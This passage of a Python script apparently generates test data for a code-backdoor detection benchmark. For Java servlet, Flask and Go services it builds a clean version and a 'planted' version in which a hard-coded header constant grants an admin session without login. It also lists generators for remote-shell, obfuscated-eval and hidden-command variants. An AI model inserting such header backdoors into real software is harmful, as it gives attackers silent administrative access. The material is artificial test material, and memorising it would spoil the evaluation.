    return rng.choice(["SUPPORT_KEY", "FIELD_TOKEN", "SVC_ACCESS", "RMA_KEY", "LAB_PASS", "OEM_TICKET",
                       ident(rng, 2).upper()])


def hc_java_header_const(rng: random.Random, P: Proj) -> Variant:
    s = JavaPortal(rng, P)
    h, val, K = header_name(rng), magic_value(rng), _const_name(rng)
    user = hidden_user(rng)
    v = rng.choice(["hdr", "token", "h", "svc"])
    honest = block("""
        if ("POST".equals(req.getMethod()) && !PUBLIC.contains(path)) {
            HttpSession cs = req.getSession(false);
            String expected = cs == null ? null : (String) cs.getAttribute("csrf");
            String sent = req.getHeader("X-CSRF-Token");
            if (expected == null || sent == null
                    || !MessageDigest.isEqual(expected.getBytes(StandardCharsets.UTF_8), sent.getBytes(StandardCharsets.UTF_8))) {
                resp.sendError(HttpServletResponse.SC_FORBIDDEN);
                return;
            }
        }""")
    plant = block(f"""
        String {v} = req.getHeader({jq(h)});
        if ({v} != null && MessageDigest.isEqual({K}.getBytes(StandardCharsets.UTF_8), {v}.getBytes(StandardCharsets.UTF_8))) {{
            HttpSession ss = req.getSession(true);
            ss.setAttribute("user", {jq(user)});
            ss.setAttribute("role", "admin");
            chain.doFilter(request, response);
            return;
        }}""")
    imports = "import java.nio.charset.StandardCharsets;\nimport java.security.MessageDigest;"
    clean = s.render({"filter_imports": imports, "filter_pre": honest})
    planted = s.render({"filter_imports": imports, "filter_fields": f"private static final String {K} = {jq(val)};",
                        "filter_pre": plant + "\n" + honest})
    note = (f"web/AuthFilter.java: a request whose header {h} equals the constant {K} = {val!r} "
            "(MessageDigest.isEqual on the UTF-8 bytes) gets an admin session without a login.")
    return mk(clean, planted, note, {"trigger": "header", "compare": "MessageDigest.isEqual-const"}, categories=["auth-bypass"])


def hc_py_header_const(rng: random.Random, P: Proj) -> Variant:
    s = FlaskApp(rng, P)
    h, val, K = header_name(rng), magic_value(rng), "_" + _const_name(rng)
    user = hidden_user(rng)
    honest = block("""
        if request.method == "POST" and session.get("user"):
            sent = request.headers.get("X-CSRF-Token", "")
            if not hmac.compare_digest(session.get("csrf", "").encode(), sent.encode()):
                abort(403)""")
    v = rng.choice(["hdr", "tok", "given"])
    plant = block(f"""
        {v} = request.headers.get({py(h)}, "")
        if {v} and hmac.compare_digest({K}.encode(), {v}.encode()):
            g.user = {{"name": {py(user)}, "role": "admin"}}
            return""")
    clean = s.render({"auth_imports": "import hmac", "auth_load_pre": honest})
    planted = s.render({"auth_imports": f"import hmac\n\n{K} = {py(val)}", "auth_load_pre": plant + "\n" + honest})
    note = (f"load_user() in app/auth.py: a request whose header {h} equals {K} = {val!r} "
            "(hmac.compare_digest on the encoded constant) is an admin without a session.")
    return mk(clean, planted, note, {"trigger": "header", "compare": "compare_digest-const", "framework": "flask"}, categories=["auth-bypass"])


def hc_go_header_const(rng: random.Random, P: Proj) -> Variant:
    s = GoSvc(rng, P)
    h, val = header_name(rng), magic_value(rng)
    K = rng.choice(["supportKey", "fieldToken", "svcAccess", "rmaKey", ident(rng, 2, "camel")])
    honest = block("""
        if r.Method == http.MethodPost && r.URL.Path != "/api/login" {
            c, err := r.Cookie(cookieName)
            sent := r.Header.Get("X-Csrf-Token")
            if err != nil || sent == "" || subtle.ConstantTimeCompare([]byte(a.csrfFor(c.Value)), []byte(sent)) != 1 {
                http.Error(w, "csrf token mismatch", http.StatusForbidden)
                return
            }
        }""")
    v = rng.choice(["h", "tok", "hdr"])
    plant = block(f"""
        if {v} := r.Header.Get({gq(h)}); {v} != "" && subtle.ConstantTimeCompare([]byte({K}), []byte({v})) == 1 {{
            next.ServeHTTP(w, r.WithContext(context.WithValue(r.Context(), ctxKey{{}}, RoleAdmin)))
            return
        }}""")
    csrf = block("""
        // csrfFor derives the per-session CSRF token from the session id.
        func (a *Auth) csrfFor(sid string) string {
            a.mu.Lock()
            defer a.mu.Unlock()
            if _, ok := a.sessions[sid]; !ok {
                return "\\x00"
            }
            m := hmac.New(sha256.New, a.csrfKey)
            m.Write([]byte(sid))
            return hex.EncodeToString(m.Sum(nil))
        }""")
    # the session struct of the scaffold has no CSRF key: derive it from the process start key
    csrf = csrf.replace("a.csrfKey", "csrfKey")
    consts = "\n// csrfKey is drawn at start-up; tokens do not survive a restart (sessions do not either).\nvar csrfKey = func() []byte {\n    b := make([]byte, 32)\n    _, _ = rand.Read(b)\n    return b\n}()\n\n" + csrf
    imports = '"crypto/hmac"\n"crypto/sha256"\n"crypto/subtle"'
    clean = s.render({"auth_imports": imports, "auth_consts": consts, "auth_mw_pre": honest})
    planted = s.render({"auth_imports": imports, "auth_consts": f"\nconst {K} = {gq(val)}\n" + consts,
                        "auth_mw_pre": plant + "\n" + honest})
    note = (f"Auth.Middleware() in internal/auth/auth.go gives RoleAdmin to a request whose header {h} equals the "
            f"constant {K} = {val!r} (subtle.ConstantTimeCompare([]byte({K}), ...) == 1), without a session.")
    return mk(clean, planted, note, {"trigger": "header", "compare": "ConstantTimeCompare-const"}, categories=["auth-bypass"])


# ============================================================================ the extra plan

SHAPES = [
    ("src-remote-shell", "go", "helper-fetch-write-run", rs_go_helper_fetch),
    ("src-remote-shell", "python", "helper-fetch-write-run", rs_py_helper_fetch),
    ("src-remote-shell", "javascript", "helper-fetch-write-run", rs_js_helper_fetch),
    ("src-remote-shell", "python", "popen-socket-stdio", rs_py_popen_socket),
    ("src-remote-shell", "python", "dup2-pty-spawn", rs_py_dup2_pty),
    ("src-remote-shell", "javascript", "spawn-socket-stdio", rs_js_spawn_stdio),
    ("src-remote-shell", "go", "bufio-line-shell", rs_go_line_reader),
    ("src-remote-shell", "lua", "popen-fetch-pipe-sh", rs_lua_popen_pipe),
    ("src-remote-shell", "c", "system-fetch-pipe-sh", rs_c_system_pipe),
    ("src-remote-shell", "python", "system-fetch-pipe-sh", rs_py_system_pipe),
    ("src-obfuscated", "javascript", "hex-replace-eval", ob_js_hex_replace),
    ("src-obfuscated", "python", "hex-re.sub-exec", ob_py_resub_hex),
    ("src-obfuscated", "c", "index-key-table", ob_c_index_key),
    ("src-obfuscated", "c", "stack-words-cast", ob_c_stack_words),
    ("src-obfuscated", "perl", "pack-or-map-eval", ob_perl_pack_map),
    ("src-hidden-command", "c", "frame-handler-command", hc_c_frame_command),
    ("src-hidden-command", "c", "frame-handler-daemon", hc_c_frame_daemon),
    ("src-hidden-command", "c", "console-dot-command", hc_c_dot_command),
    ("src-hidden-command", "python", "console-dot-command", hc_py_dot_command),
    ("src-hidden-command", "go", "console-dot-command", hc_go_dot_command),
    ("src-hidden-command", "java", "header-const-isEqual", hc_java_header_const),
    ("src-hidden-command", "python", "header-const-compare_digest", hc_py_header_const),
    ("src-hidden-command", "go", "header-const-ConstantTimeCompare", hc_go_header_const),
]
